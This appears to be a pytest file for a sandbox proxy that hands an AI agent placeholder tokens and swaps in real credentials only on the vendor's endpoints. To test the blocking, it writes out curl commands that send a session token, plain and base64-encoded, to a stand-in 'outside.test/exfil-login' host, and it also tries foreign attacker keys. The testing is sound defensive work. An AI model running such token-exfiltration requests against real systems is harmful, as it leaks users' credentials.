"""The agent's own login through the real proxy: tokens bound to the vendor's endpoints.

The vendor here is "anthropic" with endpoints api.anthropic.com and platform.claude.com,
both served by the loopback test servers (`resolve` maps them to 127.0.0.1).
"""

from __future__ import annotations

import base64
import json
import threading
import time

from sandbox.logins import placeholder_for
from sandbox.proxy.logins import LoginTokens, VendorLogin
from tests.proxy.conftest import Net, Servers, curl

REAL_ACCESS = "sk-ant-oat01-REALACCESSTOKENREALACCESSTOKEN0000"
REAL_KEY = "sk-ant-api03-REALAPIKEYREALAPIKEYREALAPIKEY00"
ENDPOINTS = ("api.anthropic.com", "platform.claude.com")


def last(servers: Servers, path: str):
    """The last request the HTTPS server saw for `path` (other tests share the server)."""
    return [seen for seen in servers.https.seen if seen.path == path][-1]


def loopback(servers: Servers) -> tuple[str, ...]:
    return (f"127.0.0.1:{servers.http.port}", f"127.0.0.1:{servers.https.port}")


def tokens(*reals: str, changed: list[int] | None = None) -> tuple[LoginTokens, list[str]]:
    """A session's login holding `reals`, and the placeholders the agent would see."""
    placeholders = [placeholder_for(r) for r in reals]
    login = LoginTokens.build(
        [VendorLogin("anthropic", ENDPOINTS, "x-api-key")],
        dict(zip(placeholders, reals, strict=True)),
        {p: "anthropic" for p in placeholders},
        on_change=(lambda: changed.append(1)) if changed is not None else None,
    )
    return login, placeholders


def test_placeholder_is_swapped_on_the_vendor_endpoint_without_asking(
    open_session, servers: Servers
) -> None:
    login, [access] = tokens(REAL_ACCESS)
    asked: list[dict] = []
    s = open_session(Net(allow=loopback(servers)), logins=login, ask=asked.append)
    assert access.startswith("sk-ant-oat01-sandgate") and REAL_ACCESS not in access
    url = f"https://api.anthropic.com:{servers.https.port}/v1/messages"
    result = curl(s, "-H", f"Authorization: Bearer {access}", "--data-binary", "{}", url)
    assert "hello from api.anthropic.com" in result.stdout, result.stdout + result.stderr
    assert last(servers, "/v1/messages").headers["authorization"] == f"Bearer {REAL_ACCESS}"
    # The vendor's other endpoint, with no credential at all: allowed, nothing asked.
    plain = curl(s, f"https://platform.claude.com:{servers.https.port}/hello")
    assert "hello from platform.claude.com" in plain.stdout, plain.stderr
    assert asked == []
    s.wait_events(2)
    assert [(o.by, o.rule) for o in s.outcomes()] == [("login", "anthropic")] * 2
    assert REAL_ACCESS not in json.dumps([e for e, _ in s.events])  # history holds placeholders


def test_login_token_toward_another_destination_is_refused_and_critical(
    open_session, servers: Servers
) -> None:
    """Refused before anyone is asked, toward an unknown destination (inspected) and in
    plain HTTP even to an allowed one. (An allowed destination's TLS is an opaque tunnel,
    for tokens as for canaries: nothing inside it can be seen.)"""
    login, [access] = tokens(REAL_ACCESS)
    asked: list[dict] = []
    s = open_session(
        Net(allow=("example.test", *loopback(servers))), logins=login, ask=asked.append
    )
    encoded = base64.b64encode(f"token={access}".encode()).decode()
    targets = [
        (f"https://outside.test:{servers.https.port}/exfil-login", access),
        (f"https://outside.test:{servers.https.port}/exfil-login", encoded),
        (f"https://outside.test:{servers.https.port}/exfil-login", REAL_ACCESS),
        (f"http://example.test:{servers.http.port}/exfil-login", access),
    ]
    for url, body in targets:
        result = curl(s, "-i", "--data-binary", body, url)
        assert " 403 " in result.stdout and "anthropic login" in result.stdout, result.stdout
    assert "/exfil-login" not in servers.https.paths() + servers.http.paths()
    assert asked == []
    s.wait_events(4)
    assert all(o.action == "deny" and o.critical and o.by == "login" for o in s.outcomes())


def test_foreign_key_on_the_vendor_endpoint_is_refused_and_critical(
    open_session, servers: Servers
) -> None:
    login, [key] = tokens(REAL_KEY)
    s = open_session(Net(allow=loopback(servers)), logins=login)
    url = f"https://api.anthropic.com:{servers.https.port}/v1/files-foreign"
    attacker = "sk-ant-api03-ATTACKERATTACKERATTACKERATTACK"
    for headers in (["-H", f"x-api-key: {attacker}"],
                    ["-H", f"x-api-key: {key}", "-H", "Authorization: Bearer other-token-1"],
                    ["-H", "x-api-key: not-in-a-known-format"]):  # fmt: skip
        result = curl(s, "-i", *headers, "--data-binary", "workspace files", url)
        assert " 403 " in result.stdout, result.stdout + result.stderr
    assert "/v1/files-foreign" not in servers.https.paths()
    s.wait_events(3)
    assert len(s.events) == 3
    assert all(o.critical and o.by == "credential" for o in s.outcomes())
    # The session's own key still works there.
    ok = curl(s, "-H", f"x-api-key: {key}", url + "?own")
    assert "hello from api.anthropic.com" in ok.stdout, ok.stdout + ok.stderr
    assert last(servers, "/v1/files-foreign?own").headers["x-api-key"] == REAL_KEY


def test_a_refresh_gives_the_agent_new_placeholders_only(open_session, servers: Servers) -> None:
    """The token endpoint's answer: its new tokens become placeholders on the way in, and
    the new placeholder then works on the vendor's API."""
    changed: list[int] = []
    login, [refresh] = tokens("sk-ant-ort01-OLDREFRESHTOKENOLDREFRESHTOKEN00", changed=changed)
    new_access = "sk-ant-oat01-NEWACCESSTOKENNEWACCESSTOKEN00000"
    new_refresh = "sk-ant-ort01-NEWREFRESHTOKENNEWREFRESHTOKEN0000"
    answer = {"access_token": new_access, "refresh_token": new_refresh, "expires_in": 28800}
    servers.https.replies["/v1/oauth/token"] = ("application/json", json.dumps(answer).encode())
    s = open_session(Net(allow=loopback(servers)), logins=login)
    body = json.dumps({"grant_type": "refresh_token", "refresh_token": refresh,
                       "client_id": "9d1c250a-e61b-44d9-88ed-5944d1962f5e"})  # fmt: skip
    url = f"https://platform.claude.com:{servers.https.port}/v1/oauth/token"
    result = curl(s, "-H", "Content-Type: application/json", "--data-binary", body, url)
    got = json.loads(result.stdout)
    sent = last(servers, "/v1/oauth/token").body
    assert sent == body.replace(refresh, login.real[refresh]).encode()
    assert new_access not in result.stdout and new_refresh not in result.stdout
    assert got["access_token"].startswith("sk-ant-oat01-sandgate")
    assert got["expires_in"] == 28800
    deadline = time.monotonic() + 5
    while not changed and time.monotonic() < deadline:
        time.sleep(0.01)
    assert changed, "the service is told of the new tokens, to save them"
    api = f"https://api.anthropic.com:{servers.https.port}/v1/messages?after-refresh"
    curl(s, "-H", f"Authorization: Bearer {got['access_token']}", api)
    seen = last(servers, "/v1/messages?after-refresh")
    assert seen.headers["authorization"] == f"Bearer {new_access}"


def test_a_console_sign_in_key_becomes_a_placeholder_on_the_way_in(
    open_session, servers: Servers
) -> None:
    """Claude Code's console sign-in trades its OAuth token for an API key
    (`create_api_key`, answered with `raw_key`): the key never enters the sandbox, and
    the placeholder given instead works on the vendor's API."""
    login, [access] = tokens(REAL_ACCESS)
    console_key = "sk-ant-api03-CONSOLEKEYCONSOLEKEYCONSOLEKEY00"
    path = "/api/oauth/claude_cli/create_api_key"
    servers.https.replies[path] = (
        "application/json",
        json.dumps({"raw_key": console_key}).encode(),
    )
    s = open_session(Net(allow=loopback(servers)), logins=login)
    url = f"https://api.anthropic.com:{servers.https.port}{path}"
    result = curl(s, "-X", "POST", "-H", f"Authorization: Bearer {access}", url)
    assert last(servers, path).headers["authorization"] == f"Bearer {REAL_ACCESS}"
    assert console_key not in result.stdout, result.stdout
    shown = json.loads(result.stdout)["raw_key"]
    assert shown.startswith("sk-ant-api03-sandgate")
    api = f"https://api.anthropic.com:{servers.https.port}/v1/messages?console"
    curl(s, "-H", f"x-api-key: {shown}", api)
    assert last(servers, "/v1/messages?console").headers["x-api-key"] == console_key


def test_login_endpoints_are_never_opaque_tunnels(open_session, servers: Servers) -> None:
    """Even when a rule allows the vendor's domain, its tunnel is inspected: otherwise a
    foreign key would pass untouched (the incident this guards against)."""
    login, _ = tokens(REAL_KEY)
    s = open_session(Net(allow=("api.anthropic.com", *loopback(servers))), logins=login)
    url = f"https://api.anthropic.com:{servers.https.port}/v1/files-opaque"
    result = curl(s, "-i", "-H", "x-api-key: sk-ant-api03-ATTACKERATTACKERATTACKER0000", url)
    assert " 403 " in result.stdout
    assert "/v1/files-opaque" not in servers.https.paths()
    assert [e["kind"] for e, _ in s.events] == ["net.request"]


def test_many_concurrent_swaps_stay_consistent(open_session, servers: Servers) -> None:
    login, [key] = tokens(REAL_KEY)
    s = open_session(Net(allow=loopback(servers)), logins=login)
    url = f"https://api.anthropic.com:{servers.https.port}/v1/parallel"
    results: list[str] = []
    threads = [
        threading.Thread(
            target=lambda: results.append(curl(s, "-H", f"x-api-key: {key}", url).stdout)
        )
        for _ in range(8)
    ]
    for t in threads:
        t.start()
    for t in threads:
        t.join(30)
    assert len(results) == 8 and all("hello from api.anthropic.com" in r for r in results)


def test_a_key_in_the_query_is_swapped_too(open_session, servers: Servers) -> None:
    """Google's API keys may travel as `?key=`."""
    login, [key] = tokens("AIzaREALGOOGLEKEYREALGOOGLEKEY0000000")
    s = open_session(Net(allow=loopback(servers)), logins=login)
    url = f"https://api.anthropic.com:{servers.https.port}/v1/models?key={key}"
    result = curl(s, url)
    assert "hello from api.anthropic.com" in result.stdout, result.stdout + result.stderr
    assert last(servers, "/v1/models?key=AIzaREALGOOGLEKEYREALGOOGLEKEY0000000")


def test_the_conversation_body_is_not_taken_for_a_credential(open_session, servers) -> None:
    """What authenticates a vendor request is in its headers: the body is the agent's
    conversation (Codex sends `prompt_cache_key`; a quoted file may hold any key). At
    the token endpoint, though, the body authenticates: a foreign refresh token there
    is refused."""
    login, [key] = tokens(REAL_KEY)
    s = open_session(Net(allow=loopback(servers)), logins=login)
    body = json.dumps({"prompt_cache_key": "0199aa-cache-key-of-codex",
                       "input": "the file says AKIAIOSFODNN7EXAMPLE"})  # fmt: skip
    url = f"https://api.anthropic.com:{servers.https.port}/v1/responses-body"
    ok = curl(s, "-H", f"x-api-key: {key}", "--data-binary", body, url)
    assert "hello from api.anthropic.com" in ok.stdout, ok.stdout + ok.stderr
    token_url = f"https://platform.claude.com:{servers.https.port}/v1/oauth/token"
    foreign = json.dumps(
        {"grant_type": "refresh_token", "refresh_token": "sk-ant-ort01-NOTOURS00000000"}
    )
    refused = curl(s, "-i", "--data-binary", foreign, token_url)
    assert " 403 " in refused.stdout and s.outcomes()[-1].critical, refused.stdout
